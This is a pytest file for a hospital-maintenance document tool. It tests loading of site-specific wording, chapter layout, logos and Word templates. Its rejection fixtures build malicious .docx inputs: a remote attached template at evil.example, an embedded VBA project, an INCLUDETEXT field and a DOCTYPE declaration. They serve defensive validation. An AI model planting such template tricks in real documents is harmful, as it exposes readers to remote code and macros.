"""A house's own words, chapters and letterhead: what they change, what they cannot, and how mistakes are told."""

from __future__ import annotations

import io
import re
import textwrap
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from zoneinfo import ZoneInfo

import draw
import letterhead
import pytest

from maintkit.documents.header import Header
from maintkit.documents.model import Annex, Block, Document, EvidenceList, Heading, Note, SignOff
from maintkit.documents.own.chapters import CHAPTERS, LABELS, MAY_BE_LEFT_OUT, numbered
from maintkit.documents.own.dress import dress
from maintkit.documents.own.layout import Chapters, Layout
from maintkit.documents.own.load import PLAIN, Own, load_own
from maintkit.documents.own.start import start
from maintkit.errors import SiteError

ZONE = ZoneInfo("Asia/Shanghai")
HEADER = Header(hospital="某院", provider="某公司", contract_number="1", contract_title="合同", zone=ZONE)
DOCUMENTS = draw.documents()


def chapters(document: Document) -> list[str]:
    return [block.text for block in document.blocks if isinstance(block, Heading) and block.level == 1]


def names(document: Document) -> list[str]:
    headings = [block for block in document.blocks if isinstance(block, Heading) and block.level == 1]
    return [numbered(heading)[1] for heading in headings]


def kept(document: Document) -> tuple[list[Block], ...]:
    """What no house can change: alerts, evidence, annexes, and the values of the cover."""
    of = (EvidenceList, Annex)
    alerts: list[Block] = list(document.alerts)
    values: list[Block] = [block for block in document.blocks if isinstance(block, of)]
    return alerts, values, [item.text for item in document.cover.items]  # type: ignore[return-value]


@pytest.mark.parametrize("name", DOCUMENTS)
def test_the_catalogue_has_every_chapter_of_every_document(name: str) -> None:
    """A chapter that is missing there could be neither named nor ordered."""
    document = DOCUMENTS[name]
    if document.kind in CHAPTERS:
        assert set(names(document)) - {"证据"} <= set(CHAPTERS[document.kind])


def test_the_catalogue_has_no_chapter_or_label_that_no_document_has() -> None:
    there = {(one.kind, name) for one in DOCUMENTS.values() for name in names(one)}
    drawn = {kind for kind, _ in there}
    assert not {(kind, name) for kind in CHAPTERS if kind in drawn for name in CHAPTERS[kind]} - there - RARE
    assert set(LABELS) <= {item.label for one in DOCUMENTS.values() for item in one.cover.items}
    assert {name for names_ in CHAPTERS.values() for name in names_} >= MAY_BE_LEFT_OUT


# Of changes that went in a way of which there is no golden document.
RARE = {
    *((f"change-{kind}", "人工恢复步骤") for kind in ("restart", "tuning")),
    ("change-patch", "恢复结果与数据损失"),
}


@pytest.mark.parametrize("name", DOCUMENTS)
def test_nothing_that_proves_or_warns_can_be_taken_away(name: str) -> None:
    """With everything left out and turned round that a site may: alerts, evidence, annexes and values are the same."""
    document = DOCUMENTS[name]
    known = CHAPTERS.get(document.kind, ())
    most = Chapters(order=known[::-1], leave_out=tuple(one for one in known if one in MAY_BE_LEFT_OUT))
    dressed = dress(document, Own(layout=Layout(chapters={document.kind: most} if known else {})), HEADER)
    assert [re.sub("第.+?节", "", str(part)) for part in kept(dressed)] == [
        re.sub("第.+?节", "", str(part)) for part in kept(document)
    ]
    gone = [one for one in names(document) if one not in names(dressed)]
    assert set(gone) <= MAY_BE_LEFT_OUT
    assert all(any(one in note.text for note in dressed.blocks if isinstance(note, Note)) for one in gone)
    if known:
        assert names(dressed)[-1] == names(document)[-1]


def test_a_site_without_the_directory_changes_nothing(tmp_path: Path) -> None:
    assert load_own(tmp_path) is PLAIN
    for document in DOCUMENTS.values():
        assert dress(document, PLAIN, HEADER) == document


def test_every_document_of_a_practice_site_says_so_at_its_head() -> None:
    """Before all else that the reader must not miss, and whatever the house has done with its chapters."""
    for document in DOCUMENTS.values():
        first, *others = dress(document, PLAIN, replace(HEADER, practice=True)).alerts
        assert "演练站点" in first.text
        assert tuple(others) == document.alerts


def test_chapters_are_numbered_anew_and_so_are_words_that_name_one() -> None:
    """The weekly report says "见第五节" of what nothing covers; that section comes first here."""
    wanted = Layout(chapters={"function-watch": Chapters(order=("未执行与未覆盖的功能",), leave_out=("与上周比较",))})
    document = DOCUMENTS["watch"]
    assert any("见第五节" in note.text for note in document.alerts)
    dressed = dress(document, Own(layout=wanted), HEADER)
    assert chapters(dressed)[:3] == ["一、未执行与未覆盖的功能", "二、监测结论", "三、异常与处理"]
    assert any("见第一节" in note.text for note in dressed.alerts)
    assert any("未列章节：与上周比较" in block.text for block in dressed.blocks if isinstance(block, Note))


def test_words_signatures_and_organisation_are_the_house_s(tmp_path: Path) -> None:
    letterhead.furnish(tmp_path)
    document = DOCUMENTS["record-fleet"]
    dressed = dress(document, load_own(tmp_path), HEADER)
    assert dressed.organisation == "第一人民医院信息中心"
    assert {"甲方", "乙方"} <= {item.label for item in dressed.cover.items}
    assert chapters(dressed)[0] == "一、总体结论"
    (signed,) = [block for block in dressed.blocks if isinstance(block, SignOff)]
    assert [(one.role, one.organisation) for one in signed.parties] == [
        ("乙方工程师", "某公司"), ("值班长", "某院"), ("信息中心主任", "某院")
    ]  # fmt: skip


def test_documents_with_people_of_their_own_are_signed_by_them(tmp_path: Path) -> None:
    """`all` is for the usual pair: the supervisor of a change signs unless its kind is named."""
    letterhead.furnish(tmp_path)
    document = DOCUMENTS["change-patch"]
    dressed = dress(document, load_own(tmp_path), HEADER)
    roles = [one.role for block in dressed.blocks if isinstance(block, SignOff) for one in block.parties]
    assert roles == ["服务方工程师", "采购人现场监督人", "采购人系统负责人"]


def test_the_examples_of_the_page_are_taken(tmp_path: Path) -> None:
    """docs/own-documents.md: what it shows of words.yml and layout.yml can be copied."""
    page = (Path(__file__).parents[3] / "docs" / "own-documents.md").read_text(encoding="utf-8")
    blocks = [textwrap.dedent(block) for block in re.findall(r"(?:^    .*\n)+", page, re.MULTILINE)]
    words, layout = (next(block for block in blocks if key in block) for key in ("sign_off:", "chapters:"))
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "words.yml").write_text(words, encoding="utf-8")
    (tmp_path / "documents" / "layout.yml").write_text(layout, encoding="utf-8")
    (tmp_path / "documents" / "~$style.docx").write_bytes(b"open in Word")
    own = load_own(tmp_path)
    assert own.words.labels["采购人"] == "甲方"
    assert own.layout.chapters["inspection-record"].leave_out == ("与上期对比",)


WORDS_WRONG = {
    "labels: {采购入: 甲方}": "words.yml:2: no `采购入` (did you mean `采购人`?)",
    "labels: {采购人: 服务方}": "words.yml:2: `服务方` is also the word for 服务方",
    "labels: {采购人: ''}": "words.yml:2:",
    "sign_off: {al: {parties: [{role: a, of: hospital}, {role: b, of: provider}]}}": "words.yml:2: no `al`",
    "sign_off: {all: {parties: [{role: a, of: hospital}, {role: b, of: hospital}]}}": "words.yml:2: one side",
    "sign_off: {all: {parties: [{role: a, of: hospital, lines: [x]}, {role: b, of: provider}]}}": "numbers of lines",
    "draft: ''": "words.yml:2: unknown key `draft`",
}
LAYOUT_WRONG = {
    "chapters: {inspection-record: {leave_out: [异常事件与处理]}}": "`异常事件与处理` must not be left out",
    "chapters: {inspection-record: {leave_out: [证据]}}": "no chapter `证据`",
    "chapters: {inspection-record: {order: [巡检结果]}}": "layout.yml:2: no chapter `巡检结果`",
    "chapters: {inspection-record: {order: [巡检结论, 巡检结论]}}": "stands twice",
    "chapters: {inspection: {}}": "no document of kind `inspection`",
    'fonts: {text: "x\'; }"}': "layout.yml:2:",
    "logo_cm: 20": "layout.yml:2:",
}


@pytest.mark.parametrize(
    ("file", "text", "told"),
    [
        *(("words.yml", text, told) for text, told in WORDS_WRONG.items()),
        *(("layout.yml", text, told) for text, told in LAYOUT_WRONG.items()),
    ],
)
def test_a_mistake_is_told_by_its_line(tmp_path: Path, file: str, text: str, told: str) -> None:
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / file).write_text(f"---\n{text}\n", encoding="utf-8")
    with pytest.raises(SiteError) as error:
        load_own(tmp_path)
    assert told in str(error.value)


def test_the_file_to_begin_with_is_taken_and_always_the_same(tmp_path: Path) -> None:
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "style.docx").write_bytes(start())
    assert load_own(tmp_path).style == start()


Change = Callable[[str, bytes], bytes | None]


def altered(change: Change, **more: bytes) -> bytes:
    """The file to begin with, each member put through `change` (None: taken out), and more members."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(start())) as source, zipfile.ZipFile(target, "w") as packed:
        for name, content in _members(source):
            made = change(name, content)
            if made is not None:
                packed.writestr(name, made)
        for name, content in more.items():
            packed.writestr(name.replace("__", "/"), content)
    return target.getvalue()


def _members(archive: zipfile.ZipFile) -> Iterator[tuple[str, bytes]]:
    yield from ((name, archive.read(name)) for name in archive.namelist())


def putting(part: str, old: bytes, new: bytes) -> bytes:
    return altered(lambda name, content: content.replace(old, new) if part in name else content)


LINK = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
STYLES_WRONG = {
    "no Word file": lambda: b"PK nothing",
    "does not hold {footer}": lambda: putting("footer", b"{footer}", b"x"),
    "has no page number": lambda: putting("footer", b'w:instr="PAGE"', b'w:instr="NUMPAGES"'),
    "which Word may run": lambda: altered(lambda _, content: content, word__vbaProject_bin=b"x"),
    "http://evil.example/t.dotm, which is elsewhere": lambda: putting("document.xml.rels", b"</Relationships>", LINK),
    "has the field INCLUDETEXT": lambda: putting("footer", b'"NUMPAGES"', b'"INCLUDETEXT x"'),
    "declares a document type": lambda: putting("styles.xml", b"<w:styles", b"<!DOCTYPE a><w:styles"),
    "no style heading 2": lambda: putting("styles.xml", b'w:val="heading 2"', b'w:val="other"'),
    "less than 12 cm": lambda: putting("document.xml", b'w:left="1191"', b'w:left="7191"'),
    "lacks a document": lambda: altered(lambda name, content: None if name == "word/styles.xml" else content),
    "cannot be read": lambda: putting("styles.xml", b"</w:styles>", b""),
}


@pytest.mark.parametrize("told", STYLES_WRONG)
def test_a_word_file_that_must_not_be_used_is_refused(tmp_path: Path, told: str) -> None:
    """Programs, what is fetched from elsewhere, fields that change, no hash or page number in the footer."""
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "style.docx").write_bytes(STYLES_WRONG[told]())
    with pytest.raises(SiteError) as error:
        load_own(tmp_path)
    assert f"{tmp_path}/documents/style.docx: " in str(error.value)
    assert told in str(error.value)
    assert error.value.hint


def test_a_template_of_another_format_is_refused_and_told_that_only_word_has_one(tmp_path: Path) -> None:
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "style.xlsx").write_bytes(b"PK")
    with pytest.raises(SiteError, match=r"style\.xlsx: no document is made of this file") as error:
        load_own(tmp_path)
    assert "only Word has a template, style.docx" in (error.value.hint or "")


@pytest.mark.parametrize(
    ("content", "told"),
    [(b"GIF89a", "no PNG"), (letterhead.logo(1200, 40), "too wide"), (letterhead.logo(5000, 5000), "5000 × 5000")],
    ids=["gif", "wide", "large"],
)
def test_a_picture_that_fits_no_page_is_refused(tmp_path: Path, content: bytes, told: str) -> None:
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "logo.png").write_bytes(content)
    with pytest.raises(SiteError, match=told):
        load_own(tmp_path)


def test_all_mistakes_come_at_once_and_a_stray_file_is_one(tmp_path: Path) -> None:
    place = letterhead.furnish(tmp_path)
    (place / "style.css").write_text("body {}", encoding="utf-8")
    (place / "words.yml").write_text("---\nlabels: {a: b}\n", encoding="utf-8")
    (place / "logo.png").write_bytes(b"x")
    with pytest.raises(SiteError) as error:
        load_own(tmp_path)
    lines = str(error.value).splitlines()
    assert [line.split("/documents/")[1].split(":")[0] for line in lines] == ["style.css", "words.yml", "logo.png"]
